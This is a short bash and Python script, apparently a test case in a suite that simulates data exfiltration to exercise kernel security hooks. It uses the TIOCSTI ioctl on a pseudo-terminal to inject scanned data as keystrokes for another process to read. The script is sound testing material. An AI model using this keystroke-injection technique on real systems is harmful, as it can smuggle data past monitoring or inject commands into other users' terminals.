#!/usr/bin/env bash
# technique: TIOCSTI types it into a terminal that another program reads
# hooks: file_ioctl, file_permission
# as: root
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *
import fcntl
import termios
import tty

master, slave = os.openpty()
tty.setraw(slave)


def read():
    os.close(master)
    data = b""
    while len(data) < 512:
        data += os.read(slave, 512)
    os.close(slave)
    keep(data)


def write():
    os.setsid()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    for byte in scan()[:512]:
        fcntl.ioctl(slave, termios.TIOCSTI, bytes([byte]))
    time.sleep(1)


reader = apart(read)
apart(write)
os.waitpid(reader, 0)
PY
